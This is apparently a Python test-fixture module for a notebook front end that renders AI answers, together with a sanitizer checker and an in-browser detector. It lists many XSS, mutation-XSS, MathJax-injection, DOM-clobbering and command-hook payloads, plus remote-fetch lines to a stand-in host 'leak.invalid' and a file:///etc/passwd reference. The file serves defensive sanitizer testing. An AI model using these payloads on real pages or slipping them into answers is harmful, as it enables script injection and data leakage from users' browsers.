"""Answers that attack the page which shows them, by the way in which they try.

Each would set ``ran`` in the page, ask a host outside this machine for something, run a
command of the front end, or change what stands outside the answer.
"""

import re
from collections.abc import Callable
from html import unescape
from typing import Any

from drawn import data_url, image, png

from apertis_magic.render import style
from apertis_magic.render.formulas import is_typesettable
from apertis_magic.render.style import IN_ANSWERS

RUN = "window.ran=(window.ran||[]).concat(1)"
LEAK = "http://leak.invalid/x"
_T = "`" * 3
_OVER = f"position:fixed;left:0;top:0;width:9999px;height:9999px;background:url({LEAK})"
_BACK, _NEAR = "\\kern-3em" * 99, "\\!" * 999
_BOX = f"\\unicode[x;{_OVER}]{{x41}}"

PAYLOADS: dict[str, str] = {
    # Elements that run a script.
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<SCRIPT>{RUN}</SCRIPT >",
    "script from elsewhere": f'<script src="{LEAK}.js"></script>',
    "script module": f'<script type="module">{RUN}</script>',
    "broken script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "image": f"<img src=x onerror={RUN}>",
    "image, slashes": f"<img/src=x/onerror={RUN}>",
    "image, no space": f'<img src="x"onerror="{RUN}">',
    "image, never closed": f'<img src="x" onerror="{RUN}"',
    "svg": f"<svg onload={RUN}>",
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg animation": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    "svg use": "<svg><use href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x'/></svg>",
    "svg foreign object": f"<svg><foreignObject><img src=x onerror={RUN}>",
    "svg style": f"<svg><style><img src=x onerror={RUN}></style></svg>",
    "mathml": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
    ),
    "mathml link": f'<math><a xlink:href="javascript:{RUN}">x</a></math>',
    "iframe": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "iframe, javascript": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "iframe, elsewhere": f'<iframe src="{LEAK}"></iframe>',
    "object": f'<object data="{LEAK}"></object><embed src="{LEAK}">',
    "details": f"<details open ontoggle={RUN}>x</details>",
    "autofocus": f"<input autofocus onfocus={RUN}>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "video": f"<video><source onerror={RUN}></video>",
    "audio": f"<audio src=x onerror={RUN}></audio>",
    "body": f"<body onload={RUN} onpageshow={RUN}>",
    "animation": (
        "<style>@keyframes x{from{color:red}}</style>"
        f'<p style="animation:x 1s" onanimationstart="{RUN}">x</p>'
    ),
    "custom element": f"<x-y onclick={RUN} contenteditable autofocus>x</x-y>",
    "template": f"<template><img src=x onerror={RUN}></template>",
    "textarea": f"<textarea></textarea><img src=x onerror={RUN}></textarea>",
    "title": f"<title><img src=x onerror={RUN}></title>",
    "xmp": f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>',
    "select": f"<select><option><img src=x onerror={RUN}></select>",
    "table": f'<table background="{LEAK}"><tr><td background="{LEAK}" onclick={RUN}>x',
    # Comments and odd markup, over which parsers disagree.
    "comment": f"<!--><img src=x onerror={RUN}>-->",
    "comment with a bang": f"<!-- --!><img src=x onerror={RUN}> -->",
    "processing instruction": f"<?xml ?><img src=x onerror={RUN}>",
    "cdata": f"<![CDATA[><img src=x onerror={RUN}>]]>",
    "null byte": f"<img src=x one\x00rror={RUN}><scr\x00ipt>{RUN}</scr\x00ipt>",
    "entities": "&lt;img src=x onerror=" + RUN + "&gt;",
    "numeric entities": "&#60;img src=x onerror=" + RUN + "&#62;",
    "double entities": "&amp;lt;script&amp;gt;" + RUN,
    "wide characters": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "control characters in a tag": f"<img\x0csrc=x\x0bonerror={RUN}>",
    "nested forms": (
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>"
    ),
    "mutation by a table": f"<table><a><style><!--</style><img src=x onerror={RUN}>-->",
    "placeholders of Markdown": f"\x02wzxhzdk:0\x03 <img src=x onerror={RUN}> \x02amp\x03",
    # Links.
    "link, javascript": f'<a href="javascript:{RUN}">x</a>',
    "link, spaced javascript": f'<a href=" java\nscript:{RUN}">x</a>',
    "link, entities": f'<a href="&#106;avascript:{RUN}">x</a>',
    "link, vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "link, data": f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    "markdown link": f"[x](javascript:{RUN})",
    "markdown link, capitals": f"[x](JaVaScRiPt:{RUN})",
    "markdown link, entity": f"[x](&#106;avascript:{RUN})",
    "markdown link, tab": f"[x](java\tscript:{RUN})",
    "markdown link, angle": f"[x](<javascript:{RUN}>)",
    "markdown link, reference": f"[x][r]\n\n[r]: javascript:{RUN}",
    "markdown link, title": f'[x](http://a.invalid "\\" onmouseover={RUN} autofocus=\\"")',
    "markdown link, data": f"[x](data:text/html,<script>{RUN}</script>)",
    "autolink": f"<javascript:{RUN}>",
    "link, ping": f'<a href="http://a.invalid" ping="{LEAK}">x</a>',
    "link, same tab": '<a href="http://a.invalid" target="_top">x</a>',
    # Fences.
    "fence info": f'{_T}"><img src=x onerror={RUN}>\nx\n{_T}',
    "fence info, attributes": f'{_T}{{.x onclick="{RUN}" style="color:red"}}\nx\n{_T}',
    "fence info, class": f'{_T}python hl_lines="1" class="jp-Button"\nx\n{_T}',
    "fence text": f"{_T}html\n</code></pre><img src=x onerror={RUN}>\n{_T}",
    "fence text, unclosed": f"{_T}html\n</code></pre><script>{RUN}</script>",
    "code span": f"`</code><img src=x onerror={RUN}>`",
    # What leaves the machine without a script.
    "remote image": f'<img src="{LEAK}.png">',
    "remote image set": f'<img srcset="{LEAK}.png 1x">',
    "remote image, markdown": f"![x]({LEAK}.png)",
    "remote image, reference": f"![x][i]\n\n[i]: {LEAK}.png",
    "remote image, protocol": "![x](//leak.invalid/x.png)",
    "remote picture": f'<picture><source srcset="{LEAK}.png"><img></picture>',
    "remote video": f'<video src="{LEAK}" poster="{LEAK}" autoplay></video>',
    "remote style": f'<link rel="stylesheet" href="{LEAK}.css">',
    "remote prefetch": f'<link rel="prefetch" href="{LEAK}"><link rel="icon" href="{LEAK}">',
    "remote css": f"<style>@import url({LEAK}.css);body{{background:url({LEAK})}}</style>",
    "remote inline css": f'<p style="background:url({LEAK})">x</p>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={LEAK}">',
    "base": f'<base href="{LEAK}/"><img src="y.png">',
    "form": f'<form action="{LEAK}"><button autofocus>Log in</button></form>',
    "svg image": f'<svg><image href="{LEAK}.png"/></svg>',
    "data image that is none": f"![x]({data_url(b'<svg onload=x>')})",
    "data image, html behind its first bytes": f"![x]({data_url(png()[:8] + b'<b>')})",
    "data image with a script": (
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)"
    ),
    # The page around the answer, and the front end's own hooks.
    "overlay": '<div style="position:fixed;inset:0;z-index:9999">Log in again</div>',
    "page style": "<style>body{display:none!important}</style>",
    "command": (
        '<button data-commandlinker-command="notebook:close-and-shutdown" '
        'data-commandlinker-args="{}">x</button>'
    ),
    "command link": '<a data-commandlinker-command="help:about" href="#">x</a>',
    "front end's classes": '<div class="jp-Dialog jp-mod-styled lm-Widget">x</div>',
    "clobbered ids": (
        '<p id="main"><a id="jupyterapp"></a><a id="jupyter-config-data">x</a>'
    ),
    "clobbered names": '<form name="jupyterapp"><input name="commands"></form>',
    "footnote ids": f'x[^"><img src=x onerror={RUN}>]\n\n[^"><img src=x onerror={RUN}>]: y',
    "attribute lists": f'x\n{{: #main .jp-Dialog onclick="{RUN}" }}',
    "heading ids": f'# main {{#main onclick="{RUN}"}}',
    "mathematics, link": f"$\\href{{javascript:{RUN}}}{{x}}$ \\(\\href{{{LEAK}}}{{y}}\\)",
    "mathematics, html": f"$\\text{{<img src=x onerror={RUN}>}}$",
    "mathematics, class": "$\\class{jp-Dialog}{x}\\cssId{main}{y}\\style{position:fixed}{z}$",
    "mathematics, require": "$\\require{html}\\style{background:url(http://leak.invalid)}{x}$",
    "mathematics, box": f"\\({_BOX}\\) ${_BOX}$ $${_BOX}$$ \\[{_BOX}\\]",
    "mathematics, box on its own": f"\\[\n{_BOX}\n\\]",
    "mathematics, token": f"$\\mmlToken{{mtext}}[fontfamily='x;{_OVER}']{{t}}$",
    "mathematics, box in a box": f"$\\sqrt[{_BOX}]{{\\text{{{_BOX}}}}}$ $\\ce{{A ->[{_BOX}] B}}$",
    "mathematics, in text": f"a \\begin{{align}}{_BOX}\\end{{align}} b \\\\({_BOX}\\\\) c \\${_BOX}\\$",
    "mathematics, entities": f"a &#92;begin{{align}}{_BOX}&bsol;end{{align}} &bsol;({_BOX}&#x5c;) &dollar;{_BOX}&#36;",
    "mathematics, definitions": "$\\def\\frac#1#2{X}$ $\\renewcommand{\\sin}{X}$ $\\let\\alpha\\beta$ \\(\\DeclareMathOperator{\\cos}{X}\\)",
    "mathematics, environments": "$\\newenvironment{matrix}{X}{X}$ $\\newcommand{\\log}[1][x]{X#1}$",
    "mathematics, labels": "\\(x \\label{q}\\) \\(y \\label{q}\\) \\(\\ref{q}\\) \\eqref{q}",
    "mathematics, black box": "$\\smash{\\rlap{\\lower 9em{\\rule{40em}{20em}}}}$ $\\Huge\\Huge\\Huge\\Huge\\rule{3em}{3em}$",
    "mathematics, far away": f"${_BACK}x$ ${_NEAR}x$ $x\\\\[-99em]y$",
    "mathematics, link with a tab": f"$\\href{{java\tscript:{RUN}}}{{x}}$",
    "mathematics, bbox": f"$\\bbox[5px,border:2px solid;background:url({LEAK})]{{x}}$ $\\color{{red;{_OVER}}}x$",
    "formula in a title": 'x\n---\n[r]: /u "`|`$\\unicode[x;position:fixed]{x41}$"\n\n[r]',
    "formula in a name": "![$\\unicode{x}$ \\(a\\)][r] &#36;x&#36; &bsol;(y&bsol;)\n\n[r]: /u",
    "right-to-left": f"\u202e<img src=x onerror={RUN}>\u202c",
}

_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>'.encode()
_HTML = f"<script>{RUN}</script><img src={LEAK}>".encode()
_QUOTES = f'"><img src=x onerror={RUN}>'
_LONG = f'{{"x": "{_HTML.decode()}\u202e{"y" * 1_000_000}"}}'


def _calls(name: str, arguments: str) -> dict[str, Any]:
    function = {"name": name, "arguments": arguments}
    return {"tool_calls": [{"index": 0, "id": _QUOTES, "function": function}]}


def _cites(url: str, title: str) -> dict[str, Any]:
    return {"annotations": [{"url_citation": {"url": url, "title": title}}]}


# Attacks that stand beside the text, as a delta has them.
DELTAS: dict[str, dict[str, Any]] = {
    "svg": image(data_url(_SVG, "image/svg+xml")),
    "svg named png": image(data_url(_SVG)),
    "svg, not in base64": image(f"data:image/svg+xml,{_SVG.decode()}"),
    "html": image(data_url(_HTML, "text/html")),
    "html named png": image(data_url(_HTML)),
    "html, not in base64": image(f"data:text/html,{_HTML.decode()}"),
    "html behind a picture's first bytes": image(data_url(png()[:8] + _HTML)),
    "script behind a picture's first bytes": image(data_url(b"GIF89a=1;" + _HTML)),
    "javascript": image(f"javascript:{RUN}"),
    "quotes in the kind": image(data_url(png(), f"image/png{_QUOTES}")),
    "quotes in the data": image(f"data:image/png;base64,{_QUOTES}"),
    "quotes behind the data": image(data_url(png()) + _QUOTES),
    "quotes alone": image(_QUOTES),
    "remote": image(f"{LEAK}.png"),
    "remote, quotes": image(f"{LEAK}{_QUOTES}"),
    "remote, a long address": image(f"{LEAK}?{'x' * 1_000_000}"),
    "remote, no protocol": image("//leak.invalid/x.png"),
    "remote, in the line": image(f"data:{LEAK};base64,{LEAK}"),
    "a file": image("file:///etc/passwd"),
    "broken base64": image("data:image/png;base64,@@@"),
    "nothing": image(""),
    "many": {"images": image(data_url(png()))["images"] * 10_000},
    "many that are none": {"images": image(_QUOTES)["images"] * 10_000},
    "a call's name": _calls(_QUOTES + "\u202e" + "x" * 1_000_000, "{}"),
    "a call's arguments": _calls("f", f'{{"x": "{_HTML.decode()}"}}'),
    "a call's long arguments": _calls("f", _LONG),
    "a call's odd arguments": _calls("f", "</pre></code>\x00\x1b[2J\u202e" + _QUOTES),
    "a call's deep arguments": _calls("f", "[" * 100_000),
    "a formula in a call": _calls(f"${_BOX}$", f"\\({_BOX}\\)"),
    "a source's title": _cites("http://a.invalid", _HTML.decode() + "\u202e$x$"),
    "a source's long title": _cites("http://a.invalid", _QUOTES * 50_000),
    "a source's address": _cites(f"javascript:{RUN}", "x"),
    "a source's quotes": _cites(f"http://a.invalid/{_QUOTES}", ""),
    "a source's data": _cites(data_url(_HTML, "text/html"), ""),
    "a refusal": {"refusal": _HTML.decode() + PAYLOADS["remote image, markdown"]},
    "thinking": {"reasoning": _HTML.decode() + PAYLOADS["remote image, markdown"]},
}

# Where in an answer the attack may stand.
PLACES: dict[str, Callable[[str], str]] = {
    "alone": lambda bad: bad,
    "in a paragraph": lambda bad: f"before {bad} after",
    "in emphasis": lambda bad: f"**{bad}** and *{bad}* and ~~{bad}~~",
    "in a list": lambda bad: f"- a\n- {bad}\n  1. {bad}\n",
    "in a quote": lambda bad: "\n".join(f"> {line}" for line in bad.split("\n")),
    "in a heading": lambda bad: f"## {bad}\n",
    "in a table": lambda bad: f"| a | b |\n|---|---|\n| {bad} | {bad} |\n",
    "in a link": lambda bad: f"[{bad}](http://a.invalid) ![{bad}](x.png)",
    "in a footnote": lambda bad: f"x[^1]\n\n[^1]: {bad}\n",
    "in a task": lambda bad: f"- [ ] {bad}\n- [x] {bad}\n",
    "after a fence": lambda bad: f"```\ncode\n```\n{bad}",
    "in a fence": lambda bad: f"```\n{bad}\n```",
}

# What may stand in the HTML: these tags and attributes, and nothing else in a tag.
TAG = re.compile(r"<(/?)([a-z0-9]+)((?: [a-z-]+=\"[^\"]*\")*)>")
SEEN = re.compile(
    r"<code[^>]*>.*?</code>|<span>[$\\]</span>"
    r'|<(?:span|div) class="arithmatex"[^>]*>[^<]*<',
    re.DOTALL,
)
# Between dollars there is none, which would end the formula.
DELIMITED = re.compile(
    r"(\$\$?)(?P<plain>[^$]*)\1|\\[(\[](?P<tex>.*)\\[)\]]", re.DOTALL
)
_PICTURE = r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/]*=*$"
ATTRIBUTES = set(
    "class href title src alt style start id type checked disabled aria-label rel "
    "tabindex target dir".split()
)
TAGS = set(
    "a blockquote br code dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr img input kbd "
    "li mark ol p pre s small span strong sub summary sup table tbody td th thead tr u "
    "ul".split()
)


def assert_harmless(html: str, styles: frozenset[str] = IN_ANSWERS) -> None:
    """Assert that *html* holds nothing that a browser would run, fetch or typeset."""
    assert "<" not in TAG.sub("", html)

    # Code is not looked at for formulas, and a sign alone in a tag begins none.
    plain = SEEN.sub("", html)

    assert not re.search(r"[$\\]", re.sub(r"<[^>]*>", "", plain))

    for formula in re.findall(r'class="arithmatex"[^>]*>([^<]*)<', html):
        found = DELIMITED.fullmatch(unescape(formula))

        assert found
        assert is_typesettable(found["plain"] or found["tex"] or "")

    for _, tag, attributes in TAG.findall(html):
        assert tag in TAGS

        for name, value in re.findall(r" ([a-z-]+)=\"([^\"]*)\"", attributes):
            assert name in ATTRIBUTES
            assert name != "href" or re.match(r"(https?://|mailto:|#fn)", value)
            assert name != "src" or re.match(_PICTURE, value)
            assert name != "class" or "jp-" not in value
            assert name != "style" or value in styles
            assert name != "dir" or value in {"auto", "ltr", "rtl"}


FOUND = """([sheet, styles]) => {
  const elements = ('a b blockquote br code del details div dd dl dt em h1 h2 h3 h4 h5 '
    + 'h6 hr i img input kbd li ol p pre s small span strong sub summary sup table '
    + 'tbody td tfoot th thead tr u ul').split(' ');
  const attributes = ('class dir id href title rel target src alt style start checked '
    + 'disabled type open aria-label tabindex').split(' ');
  const values = {
    class: /^(?!(.* )?(jp|lm)-)/,
    id: /^fn/,
    href: /^(https?:|mailto:|#)/,
    target: /^_(blank|self)$/,
    style: {test: (style) => styles.includes(style)},
    dir: /^(auto|ltr|rtl)$/,
    src: /^data:image\\/(png|jpeg|gif|webp);base64,/,
  };
  // The front end's own elements for mathematics may be anything but links and hooks.
  const mathematics = {class: values.class, id: /^$/, href: values.href};
  const found = [];
  for (const element of document.querySelectorAll('.apertis-answer *')) {
    const isMath = element.closest('mjx-container');
    const name = element.localName;
    const isOurs = name === 'style' && element.textContent === sheet;
    if (!isMath && !isOurs && !elements.includes(name)) found.push(name);
    for (const {name: key, value} of element.attributes) {
      const allowed = isMath ? mathematics[key] : values[key];
      if (!isMath && !attributes.includes(key) || allowed && !allowed.test(value))
        found.push(`${name}[${key}=${value}]`);
    }
  }
  return found;
}"""
"""What an answer may not hold, by the page's own view of it."""

STYLES = [looks for looks in vars(style).values() if isinstance(looks, str)]
